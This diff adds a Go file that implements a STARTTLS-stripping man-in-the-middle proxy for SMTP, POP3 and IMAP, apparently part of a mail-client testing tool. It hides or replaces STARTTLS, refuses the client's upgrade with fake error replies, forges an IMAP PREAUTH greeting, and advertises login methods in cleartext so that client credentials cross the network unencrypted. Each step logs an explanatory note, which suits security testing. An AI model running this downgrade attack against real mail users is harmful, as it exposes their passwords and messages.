@@ -1,0 +1,601 @@
+package mitm
+
+import (
+	"bytes"
+	"fmt"
+	"slices"
+	"strings"
+
+	"github.com/mailwire/mailwire/sessions"
+)
+
+// The STRIPTLS attacker on a STARTTLS port (RFC 3207 §6, RFC 2595 §2.2,
+// RFC 8314 §5): upgrade the attacker's own leg first, then keep the
+// client's leg in cleartext and relay.
+
+// strip serves one client on a STARTTLS port.
+func (c *pconn) strip() {
+	c.cconn = c.client
+	c.cr = newLineReader(c.client, c.cfg.MaxLine, c.clientDeadline)
+	if err := c.dialUpstream(); err != nil {
+		return
+	}
+	defer c.finish()
+	greeting, err := c.prepareUpstream()
+	if err != nil {
+		return
+	}
+	if err := c.writeClient(c.clientGreeting(greeting)); err != nil {
+		c.p.fail("greet the client", err, "")
+		return
+	}
+	c.relay()
+}
+
+// prepareUpstream reads the server's greeting, asks its capabilities,
+// upgrades the attacker's leg with STARTTLS and asks again. It returns the
+// greeting as the server sent it.
+func (c *pconn) prepareUpstream() ([]byte, error) {
+	switch c.cfg.Proto {
+	case sessions.ProtoSMTP:
+		return c.prepareSMTP()
+	case sessions.ProtoPOP3:
+		return c.preparePOP3()
+	}
+	return c.prepareIMAP()
+}
+
+func (c *pconn) prepareSMTP() ([]byte, error) {
+	g, err := c.readSMTPReply("read the server's greeting")
+	if err != nil {
+		return nil, err
+	}
+	if !bytes.HasPrefix(g, []byte("220")) {
+		// No service (RFC 5321 §3.1): nothing to attack; the client hears it.
+		return g, nil
+	}
+	ehlo := func() ([]string, error) {
+		if err := c.sendUp([]byte("EHLO "+attackerEHLO+"\r\n"), nil); err != nil {
+			return nil, err
+		}
+		r, err := c.readSMTPReply("read the EHLO reply")
+		if err != nil || !bytes.HasPrefix(r, []byte("250")) {
+			return nil, err
+		}
+		lines := smtpReplyLines(r)
+		c.ehloFirst = lines[0]
+		return lines[1:], nil
+	}
+	if c.clearCaps, err = ehlo(); err != nil {
+		return nil, err
+	}
+	c.intercept = true
+	if !hasCap(c.clearCaps, "STARTTLS") {
+		c.upstreamCleartext("the server offers no STARTTLS")
+		return g, nil
+	}
+	if err := c.sendUp([]byte("STARTTLS\r\n"), nil); err != nil {
+		return nil, err
+	}
+	r, err := c.readSMTPReply("read the STARTTLS reply")
+	if err != nil {
+		return nil, err
+	}
+	if !bytes.HasPrefix(r, []byte("220")) {
+		c.upstreamCleartext("the server refused the attacker's STARTTLS")
+		return g, nil
+	}
+	if err := c.startUpstreamTLS("tls.boundary.starttls",
+		"the server accepted the attacker's STARTTLS: the attacker's own leg is TLS from the next byte (RFC 3207 §4)"); err != nil {
+		return nil, err
+	}
+	// RFC 3207 §4.2: EHLO again inside TLS, where AUTH usually appears.
+	if c.tlsCaps, err = ehlo(); err != nil {
+		return nil, err
+	}
+	return g, nil
+}
+
+func (c *pconn) preparePOP3() ([]byte, error) {
+	g, err := c.readPOP3("read the server's greeting", false)
+	if err != nil {
+		return nil, err
+	}
+	if !bytes.HasPrefix(g, []byte("+OK")) {
+		return g, nil
+	}
+	capa := func() ([]string, error) {
+		if err := c.sendUp([]byte("CAPA\r\n"), nil); err != nil {
+			return nil, err
+		}
+		r, err := c.readPOP3("read the CAPA response", true)
+		if err != nil || !bytes.HasPrefix(r, []byte("+OK")) {
+			return nil, err
+		}
+		lines := splitLines(r)
+		return lines[1 : len(lines)-1], nil // without "+OK …" and "."
+	}
+	if c.clearCaps, err = capa(); err != nil {
+		return nil, err
+	}
+	c.intercept = true
+	if !hasCap(c.clearCaps, "STLS") {
+		c.upstreamCleartext("the server offers no STLS")
+		return g, nil
+	}
+	if err := c.sendUp([]byte("STLS\r\n"), nil); err != nil {
+		return nil, err
+	}
+	r, err := c.readPOP3("read the STLS response", false)
+	if err != nil {
+		return nil, err
+	}
+	if !bytes.HasPrefix(r, []byte("+OK")) {
+		c.upstreamCleartext("the server refused the attacker's STLS")
+		return g, nil
+	}
+	if err := c.startUpstreamTLS("tls.boundary.starttls",
+		"the server accepted the attacker's STLS: the attacker's own leg is TLS from the next byte (RFC 2595 §4)"); err != nil {
+		return nil, err
+	}
+	// RFC 2595 §4: CAPA again inside TLS, where USER and SASL PLAIN appear.
+	if c.tlsCaps, err = capa(); err != nil {
+		return nil, err
+	}
+	return g, nil
+}
+
+func (c *pconn) prepareIMAP() ([]byte, error) {
+	g, err := c.readIMAP("read the server's greeting", "")
+	if err != nil {
+		return nil, err
+	}
+	if !bytes.HasPrefix(g, []byte("* OK")) {
+		return g, nil // PREAUTH or BYE: nothing to strip
+	}
+	capability := func() ([]string, error) {
+		tag := c.nextTag()
+		if err := c.sendUp([]byte(tag+" CAPABILITY\r\n"), nil); err != nil {
+			return nil, err
+		}
+		r, err := c.readIMAP("read the CAPABILITY response", tag)
+		if err != nil {
+			return nil, err
+		}
+		for _, l := range splitLines(r) {
+			if rest, ok := cutPrefixFold(l, "* CAPABILITY "); ok {
+				return strings.Fields(rest), nil
+			}
+		}
+		return nil, nil
+	}
+	if c.clearCaps, err = capability(); err != nil {
+		return nil, err
+	}
+	c.intercept = true
+	if !hasCap(c.clearCaps, "STARTTLS") {
+		c.upstreamCleartext("the server offers no STARTTLS")
+		return g, nil
+	}
+	tag := c.nextTag()
+	if err := c.sendUp([]byte(tag+" STARTTLS\r\n"), nil); err != nil {
+		return nil, err
+	}
+	r, err := c.readIMAP("read the STARTTLS response", tag)
+	if err != nil {
+		return nil, err
+	}
+	if !bytes.HasPrefix(r, []byte(tag+" OK")) {
+		c.upstreamCleartext("the server refused the attacker's STARTTLS")
+		return g, nil
+	}
+	if err := c.startUpstreamTLS("tls.boundary.starttls",
+		"the server accepted the attacker's STARTTLS: the attacker's own leg is TLS from the next byte (RFC 9051 §6.2.1)"); err != nil {
+		return nil, err
+	}
+	// RFC 9051 §6.2.1: capabilities again inside TLS, where AUTH= appears
+	// and LOGINDISABLED goes.
+	if c.tlsCaps, err = capability(); err != nil {
+		return nil, err
+	}
+	return g, nil
+}
+
+func (c *pconn) upstreamCleartext(why string) {
+	c.p.note(why+": the attacker's own leg stays cleartext too, and the attacker relays in cleartext",
+		"attack.upstream.cleartext", nil)
+}
+
+// readSMTPReply reads one reply (RFC 5321 §4.2.1) and emits it.
+func (c *pconn) readSMTPReply(op string) ([]byte, error) {
+	var raw []byte
+	for range maxReplyLines {
+		line, err := c.ur.readLine()
+		raw = append(raw, line...)
+		if err != nil {
+			return c.readFailed(op, raw, err)
+		}
+		if len(line) < 4 || line[3] != '-' {
+			c.received(raw, "")
+			return raw, nil
+		}
+	}
+	return c.readFailed(op, raw, fmt.Errorf("%w: more than %d lines", sessions.ErrTooManyLines, maxReplyLines))
+}
+
+// readPOP3 reads one response (RFC 1939 §3), multi-line ones up to the
+// lone "." when positive.
+func (c *pconn) readPOP3(op string, multi bool) ([]byte, error) {
+	raw, err := c.ur.readLine()
+	if err != nil {
+		return c.readFailed(op, raw, err)
+	}
+	if multi && bytes.HasPrefix(raw, []byte("+OK")) {
+		for n := 0; ; n++ {
+			if n >= maxReplyLines {
+				return c.readFailed(op, raw, fmt.Errorf("%w: more than %d lines", sessions.ErrTooManyLines, maxReplyLines))
+			}
+			line, err := c.ur.readLine()
+			raw = append(raw, line...)
+			if err != nil {
+				return c.readFailed(op, raw, err)
+			}
+			if isDotLine(line) {
+				break
+			}
+		}
+	}
+	ann := ""
+	if op == "read the server's greeting" {
+		ann = "pop3.greeting"
+	}
+	c.received(raw, ann)
+	return raw, nil
+}
+
+// readIMAP reads the responses up to the one tagged tag, or with tag ""
+// one line (the greeting, RFC 9051 §7.1).
+func (c *pconn) readIMAP(op, tag string) ([]byte, error) {
+	var raw []byte
+	for range maxReplyLines {
+		line, err := c.ur.readLine()
+		raw = append(raw, line...)
+		if err != nil {
+			return c.readFailed(op, raw, err)
+		}
+		if tag == "" || bytes.HasPrefix(line, []byte(tag+" ")) {
+			ann := ""
+			if tag == "" {
+				ann = "imap.greeting"
+			}
+			c.received(raw, ann)
+			return raw, nil
+		}
+	}
+	return c.readFailed(op, raw, fmt.Errorf("%w: more than %d lines", sessions.ErrTooManyLines, maxReplyLines))
+}
+
+func (c *pconn) readFailed(op string, raw []byte, err error) ([]byte, error) {
+	if len(raw) > 0 {
+		c.received(raw, "")
+	}
+	c.p.fail(op, err, "")
+	return nil, err
+}
+
+// clientGreeting is the greeting the client gets: the server's, except
+// for IMAP, whose greeting may list capabilities (RFC 9051 §7.1) and
+// which the preauth attack turns into PREAUTH.
+func (c *pconn) clientGreeting(g []byte) []byte {
+	if c.cfg.Proto != sessions.ProtoIMAP || !c.intercept {
+		return g
+	}
+	text := strings.TrimRight(strings.TrimPrefix(string(g), "* OK"), "\r\n")
+	var caps []string
+	if code, rest, ok := strings.Cut(strings.TrimSpace(text), "]"); ok && hasPrefixFold(code, "[CAPABILITY ") {
+		caps, _ = c.editCaps(strings.Fields(code[len("[CAPABILITY "):]))
+		text = " [CAPABILITY " + strings.Join(caps, " ") + "]" + rest
+	}
+	if c.cfg.Attack == StripPreauth {
+		out := []byte("* PREAUTH" + text + "\r\n")
+		c.p.note(fmt.Sprintf("the attacker replaced the server's greeting %q by %q: the client now believes it is logged in, "+
+			"and STARTTLS is only allowed before that (RFC 9051 §6.2.1). The attacker has no password for the server, so the "+
+			"server will refuse what the client asks next; a real attacker would play the mailbox itself",
+			lineText(g), lineText(out)), "attack.strip.preauth", out)
+		return out
+	}
+	out := []byte("* OK" + text + "\r\n")
+	if !bytes.Equal(out, g) {
+		_, changes := c.editCaps(c.clearCaps)
+		c.capsNote(changes, out)
+	}
+	return out
+}
+
+// answer handles the client's capability requests and STARTTLS itself.
+// It reports whether it did.
+func (c *pconn) answer(line []byte) (bool, error) {
+	verb, _ := clientLineInfo(c.cfg.Proto, line)
+	tag := ""
+	if c.cfg.Proto == sessions.ProtoIMAP {
+		tag, _, _ = strings.Cut(strings.TrimRight(string(line), "\r\n"), " ")
+	}
+	switch {
+	case c.cfg.Proto == sessions.ProtoSMTP && verb == "EHLO" && c.cfg.Attack == StripEHLO502:
+		out := []byte("502 5.5.2 Error: command not recognized\r\n")
+		c.p.note("the attacker answered the client's EHLO with 502 itself: the client falls back to HELO (RFC 5321 §4.1.4) "+
+			"and learns of no extension at all, STARTTLS included", "attack.strip.ehlo_refused", out)
+		return true, c.writeClient(out)
+	case c.cfg.Proto == sessions.ProtoSMTP && verb == "EHLO" && !c.credSeen.Load():
+		return true, c.answerCaps(c.ehloReply(line))
+	case c.cfg.Proto == sessions.ProtoPOP3 && verb == "CAPA" && !c.credSeen.Load():
+		caps, _ := c.editCaps(c.clearCaps)
+		out := "+OK Capability list follows\r\n" + strings.Join(caps, "\r\n")
+		if len(caps) > 0 {
+			out += "\r\n"
+		}
+		return true, c.answerCaps([]byte(out + ".\r\n"))
+	case c.cfg.Proto == sessions.ProtoIMAP && verb == "CAPABILITY" && !c.credSeen.Load():
+		caps, _ := c.editCaps(c.clearCaps)
+		out := "* CAPABILITY " + strings.Join(caps, " ") + "\r\n" + tag + " OK CAPABILITY completed\r\n"
+		return true, c.answerCaps([]byte(out))
+	case verb == startTLSVerb(c.cfg.Proto):
+		out := c.refusal(tag)
+		c.p.note(fmt.Sprintf("the attacker answered the client's %s itself with %q and did not pass it on: the client's connection stays cleartext",
+			verb, lineText(out)), "attack.strip.refused", out)
+		return true, c.writeClient(out)
+	}
+	return false, nil
+}
+
+// answerCaps sends a capability answer the attacker wrote, with a note.
+func (c *pconn) answerCaps(out []byte) error {
+	_, changes := c.editCaps(c.clearCaps)
+	c.capsNote(changes, out)
+	return c.writeClient(out)
+}
+
+func (c *pconn) capsNote(changes []string, out []byte) {
+	if len(changes) == 0 {
+		c.p.note("the attacker answered the client's capability request itself, with the server's cleartext list unchanged",
+			"attack.strip.capabilities", out)
+		return
+	}
+	ann := "attack.strip.auth_added"
+	switch {
+	case slices.ContainsFunc(changes, func(s string) bool { return strings.HasPrefix(s, "removed "+startTLSVerb(c.cfg.Proto)) }):
+		ann = "attack.strip.removed"
+	case slices.ContainsFunc(changes, func(s string) bool { return strings.HasPrefix(s, "replaced ") }):
+		ann = "attack.strip.replaced"
+	}
+	c.p.note("the attacker answered the client's capability request itself, from the server's cleartext list: "+
+		strings.Join(changes, "; "), ann, out)
+}
+
+// ehloReply builds the EHLO reply the client gets: the server's cleartext
+// one, edited, greeting the client's own name.
+func (c *pconn) ehloReply(line []byte) []byte {
+	caps, _ := c.editCaps(c.clearCaps)
+	first := c.ehloFirst
+	if f := strings.Fields(string(line)); len(f) >= 2 && len(f[1]) <= 255 {
+		first = strings.ReplaceAll(first, attackerEHLO, f[1])
+	}
+	lines := append([]string{first}, caps...)
+	var b strings.Builder
+	for i, l := range lines {
+		sep := "-"
+		if i == len(lines)-1 {
+			sep = " "
+		}
+		b.WriteString("250" + sep + l + "\r\n")
+	}
+	return []byte(b.String())
+}
+
+// refusal is the attacker's answer to the client's STARTTLS/STLS.
+func (c *pconn) refusal(tag string) []byte {
+	switch c.cfg.Proto {
+	case sessions.ProtoPOP3:
+		if c.cfg.Attack == StripRefuse454 {
+			return []byte("-ERR [SYS/TEMP] TLS not available\r\n")
+		}
+		return []byte("-ERR Unknown command.\r\n")
+	case sessions.ProtoIMAP:
+		if c.cfg.Attack == StripRefuse454 {
+			return []byte(tag + " NO TLS not available\r\n")
+		}
+		return []byte(tag + " BAD Unknown command\r\n")
+	}
+	switch c.cfg.Attack {
+	case StripRefuse454:
+		// RFC 3207 §4's own wording for a temporary failure.
+		return []byte("454 4.7.0 TLS not available due to temporary reason\r\n")
+	case StripRefuse501:
+		return []byte("501 5.5.4 Syntax error (no parameters allowed)\r\n")
+	case StripRefuse502:
+		return []byte("502 5.5.1 Command not implemented\r\n")
+	}
+	// What a server without the extension says (Postfix's words).
+	return []byte("502 5.5.2 Error: command not recognized\r\n")
+}
+
+// editCaps applies the attack to the server's cleartext capabilities
+// (EHLO keyword lines, CAPA lines, IMAP atoms): STARTTLS removed or
+// replaced, and the login adverts the server shows only inside TLS added,
+// so that the client logs in in cleartext. It returns the list and what
+// changed, in words.
+func (c *pconn) editCaps(clear []string) ([]string, []string) {
+	proto, stls := c.cfg.Proto, startTLSVerb(c.cfg.Proto)
+	var out, changes []string
+	for _, cp := range clear {
+		kw := capKeyword(cp)
+		switch {
+		case kw == stls && (c.cfg.Attack == StripRemove || c.cfg.Attack == StripPreauth):
+			changes = append(changes, "removed "+stls)
+		case kw == stls && c.cfg.Attack == StripReplace:
+			out = append(out, junkFor(proto))
+			changes = append(changes, fmt.Sprintf("replaced %s by %s", stls, junkFor(proto)))
+		case proto == sessions.ProtoIMAP && kw == "LOGINDISABLED":
+			// RFC 9051 §6.2.3: with it the client must not send LOGIN.
+			changes = append(changes, "removed LOGINDISABLED")
+		case isLoginCap(proto, kw):
+			if i := slices.IndexFunc(c.tlsCaps, func(t string) bool { return capKeyword(t) == kw }); i >= 0 && c.tlsCaps[i] != cp {
+				out = append(out, c.tlsCaps[i])
+				changes = append(changes, fmt.Sprintf("changed %q to %q, as the server shows it inside TLS", cp, c.tlsCaps[i]))
+				continue
+			}
+			out = append(out, cp)
+		default:
+			out = append(out, cp)
+		}
+	}
+	for _, t := range c.tlsCaps {
+		kw := capKeyword(t)
+		if isLoginCap(proto, kw) && !slices.ContainsFunc(clear, func(cp string) bool { return capKeyword(cp) == kw }) {
+			out = append(out, t)
+			changes = append(changes, "added "+t+", which the server shows only inside TLS")
+		}
+	}
+	return out, changes
+}
+
+// isLoginCap says whether a capability advertises a way to log in: SMTP
+// AUTH (RFC 4954 §3), POP3 USER and SASL (RFC 2449 §6.3, §6.8), IMAP
+// AUTH= (RFC 9051 §7.2.2).
+func isLoginCap(proto, kw string) bool {
+	switch proto {
+	case sessions.ProtoSMTP:
+		return kw == "AUTH" || strings.HasPrefix(kw, "AUTH=")
+	case sessions.ProtoPOP3:
+		return kw == "USER" || kw == "SASL"
+	}
+	return strings.HasPrefix(kw, "AUTH=")
+}
+
+// junkFor is the same-length junk keyword that replaces STARTTLS/STLS.
+func junkFor(proto string) string {
+	switch proto {
+	case sessions.ProtoPOP3:
+		return "XXXX"
+	case sessions.ProtoIMAP:
+		return "XXXXXXXX"
+	}
+	return "XXXXXXXA"
+}
+
+func capKeyword(cp string) string {
+	kw, _, _ := strings.Cut(strings.TrimSpace(cp), " ")
+	return strings.ToUpper(kw)
+}
+
+func hasCap(caps []string, kw string) bool {
+	return slices.ContainsFunc(caps, func(cp string) bool { return capKeyword(cp) == kw })
+}
+
+// smtpReplyLines returns each line's text after "NNN-" or "NNN ".
+func smtpReplyLines(raw []byte) []string {
+	var out []string
+	for _, l := range splitLines(raw) {
+		if len(l) > 4 {
+			out = append(out, l[4:])
+		} else {
+			out = append(out, "")
+		}
+	}
+	return out
+}
+
+// splitLines splits raw into lines without their terminators.
+func splitLines(raw []byte) []string {
+	s := strings.TrimSuffix(strings.ReplaceAll(string(raw), "\r\n", "\n"), "\n")
+	return strings.Split(s, "\n")
+}
+
+func hasPrefixFold(s, prefix string) bool {
+	return len(s) >= len(prefix) && strings.EqualFold(s[:len(prefix)], prefix)
+}
+
+func cutPrefixFold(s, prefix string) (string, bool) {
+	if !hasPrefixFold(s, prefix) {
+		return s, false
+	}
+	return s[len(prefix):], true
+}
+
+// clientLineInfo names the command of a client line and its annotation:
+// the first word (IMAP: the word after the tag), when it looks like a
+// command verb; "" for continuation data (SASL responses, message text).
+func clientLineInfo(proto string, line []byte) (verb, ann string) {
+	f := strings.Fields(string(line))
+	if proto == sessions.ProtoIMAP {
+		if len(f) < 2 {
+			return "", ""
+		}
+		f = f[1:]
+	}
+	if len(f) == 0 || len(f[0]) > 12 {
+		return "", ""
+	}
+	for _, r := range f[0] {
+		if !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z') {
+			return "", ""
+		}
+	}
+	verb = strings.ToUpper(f[0])
+	return verb, proto + ".cmd." + strings.ToLower(verb)
+}
+
+// serverLineInfo gives Line.Code and the annotation of what the server
+// sent, from its first line.
+func serverLineInfo(proto string, raw []byte) (code, ann string) {
+	first, _, _ := strings.Cut(string(raw), "\n")
+	first = strings.TrimSuffix(first, "\r")
+	switch proto {
+	case sessions.ProtoSMTP:
+		if len(first) >= 3 && first[0] >= '2' && first[0] <= '5' && isDigits(first[1:3]) {
+			return first[:3], "smtp.reply." + first[:3]
+		}
+	case sessions.ProtoPOP3:
+		switch {
+		case strings.HasPrefix(first, "+OK"):
+			return "+OK", "pop3.reply.ok"
+		case strings.HasPrefix(first, "-ERR"):
+			return "-ERR", "pop3.reply.err"
+		}
+	case sessions.ProtoIMAP:
+		tag, rest, _ := strings.Cut(first, " ")
+		if tag == "+" {
+			return "+", "imap.continuation"
+		}
+		word, _, _ := strings.Cut(rest, " ")
+		word = strings.ToUpper(word)
+		switch word {
+		case "OK", "NO", "BAD", "BYE", "PREAUTH":
+			return word, "imap.status." + strings.ToLower(word)
+		}
+		if tag == "*" {
+			if isDigits(word) {
+				_, after, _ := strings.Cut(rest, " ")
+				word, _, _ = strings.Cut(after, " ")
+				word = strings.ToUpper(word)
+			}
+			if word != "" && !strings.ContainsAny(word, "()[]{}\"\\%*") {
+				return "*", "imap.data." + strings.ToLower(word)
+			}
+			return "*", "imap.data.unknown"
+		}
+	}
+	return "", ""
+}
+
+func isDigits(s string) bool {
+	if s == "" {
+		return false
+	}
+	for _, r := range s {
+		if r < '0' || r > '9' {
+			return false
+		}
+	}
+	return true
+}
